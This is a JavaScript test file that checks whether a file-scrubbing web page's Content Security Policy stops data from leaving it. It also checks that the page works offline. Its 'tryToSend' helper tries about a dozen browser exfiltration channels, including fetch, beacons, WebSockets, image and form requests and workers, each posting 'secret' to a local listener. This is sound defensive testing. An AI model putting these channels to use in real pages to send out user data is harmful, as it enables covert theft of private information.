// Nothing leaves the page for files, whatever its code would do; and it needs no network once it is loaded.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { same } from "../wasm/agree.mjs";
import { judged, repository, SMALL, test } from "../wasm/harness.mjs";
import { servePage, visit } from "./visit.mjs";

/** A server that only listens for what escapes. */
async function listener() {
  const heard = [];
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("x");
  });
  server.on("upgrade", (request, socket) => (heard.push(`upgrade ${request.url}`), socket.destroy()));
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${server.address().port}/`, heard, close: () => (server.closeAllConnections(), new Promise((resolve) => server.close(resolve))) };
}

/** Tries every way out, in a page; which of them were refused, by name. */
async function tryToSend(to) {
  const refused = new Set();
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.add(effectiveDirective));
  const tries = {
    fetch: () => fetch(`${to}fetch`, { method: "POST", body: "secret", mode: "no-cors" }),
    xhr: () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open("POST", `${to}xhr`);
      [request.onload, request.onerror] = [resolve, () => reject(new Error("refused"))];
      request.send("secret");
    }),
    beacon: () => (navigator.sendBeacon(`${to}beacon`, "secret"), Promise.reject(new Error("seen below"))),
    socket: () => new Promise((resolve, reject) => Object.assign(new WebSocket(`${to.replace("http", "ws")}socket`), { onopen: resolve, onerror: reject })),
    events: () => new Promise((resolve, reject) => Object.assign(new EventSource(`${to}events`), { onopen: resolve, onerror: reject })),
    image: () => new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: reject, src: `${to}image?secret` })),
    script: () => import(`${to}script.js?secret`),
    style: () => new Promise((resolve, reject) => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${to}style.css?secret`, onload: resolve, onerror: reject }))),
    frame: () => new Promise((resolve) => (document.body.append(Object.assign(document.createElement("iframe"), { src: `${to}frame?secret` })), setTimeout(resolve, 300))).then(() => Promise.reject(new Error("seen below"))),
    form: () => {
      const form = document.body.appendChild(Object.assign(document.createElement("form"), { action: `${to}form`, method: "post", target: "_self" }));
      form.submit();
      return new Promise((_, reject) => setTimeout(reject, 300));
    },
    worker: () => new Promise((resolve, reject) => {
      const code = `fetch("${to}worker", { method: "POST", body: "secret", mode: "no-cors" }).then(() => postMessage("sent"), () => postMessage("refused"))`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = ({ data }) => (data === "sent" ? resolve() : reject());
    }),
    "worker from elsewhere": () => new Promise((resolve, reject) => Object.assign(new Worker(`${to}worker.js`), { onmessage: resolve, onerror: reject })),
    "service worker": () => navigator.serviceWorker.register(`${to}service.js`),
  };
  const sent = [];
  for (const [name, run] of Object.entries(tries)) await Promise.resolve().then(run).then(() => sent.push(name), () => {});
  return { tried: Object.keys(tries).length, sent, refused: [...refused].sort() };
}

export async function privacyTests() {
  const repo = repository("privacy", "--codec", "zstd", ...SMALL);
  const theirs = judged(repo, "scrub");

  await test("nothing_leaves_the_page_for_files", async () => {
    const page = await servePage(), outside = await listener();
    const refusals = /Content Security Policy|ERR_BLOCKED_BY_CSP|Refused|violates/;
    const told = await visit(`${page.url}index.html`, async (at) => {
      await at.open(repo);
      await at.scrub();
      await at.verdict("Intact");
      const before = page.seen.length;
      const elsewhere = await at.page.evaluate(tryToSend, outside.url), home = await at.page.evaluate(tryToSend, page.url);
      assert.deepEqual(elsewhere.sent, []);
      // Its own server gives the page its script and style, so the like may be asked for there.
      assert.deepEqual(home.sent.filter((name) => !["script", "style"].includes(name)), []);
      assert.deepEqual(page.seen.slice(before).filter((line) => !/^GET \/(script\.js|style\.css)\?secret$/.test(line)), []);
      return { tried: elsewhere.tried, refused: [...new Set([...elsewhere.refused, ...home.refused])].sort() };
    }, { expected: new RegExp(`${refusals.source}|404|MIME`) });
    await Promise.all([page.close(), outside.close()]);
    assert.deepEqual(outside.heard, []);
    assert.deepEqual(told.refused, ["connect-src", "form-action", "frame-src", "img-src", "script-src-elem", "style-src-elem", "worker-src"]);
    return `${told.tried} ways, refused by ${told.refused.join(", ")}`;
  });

  await test("the_listener_would_hear_what_leaves", async () => {
    // The page for URLs may fetch, so that the test above is seen to be able to fail.
    const page = await servePage(), outside = await listener();
    await visit(`${page.url}url.html`, async (at) => {
      const { sent } = await at.page.evaluate(tryToSend, outside.url);
      assert.ok(sent.includes("fetch") && sent.includes("worker"), `${sent}`);
    }, { expected: /./ });
    assert.ok(outside.heard.includes("POST /fetch") && outside.heard.includes("POST /worker"), `${outside.heard}`);
    await Promise.all([page.close(), outside.close()]);
  });

  await test("once_loaded_the_page_needs_no_network", async () => {
    const { url, seen, close } = await servePage();
    await visit(url, async (at) => {
      await at.page.waitForLoadState("networkidle");
      await close();
      await at.context.setOffline(true);
      const before = seen.length;
      await at.open(repo);
      for (const method of ["decoded", "stored"]) {
        await at.scrub(method);
        await at.verdict("Intact");
        same(await at.report(), theirs);
      }
      assert.equal(seen.length, before);
      // Those that decoded it were started offline, too, and so was Zstandard.
      const workers = at.page.workers().length;
      assert.ok(workers > 0 && at.page.workers().every((worker) => worker.url().startsWith("blob:")));
      return `${before} requests to load; ${workers} workers`;
    });
  });
}
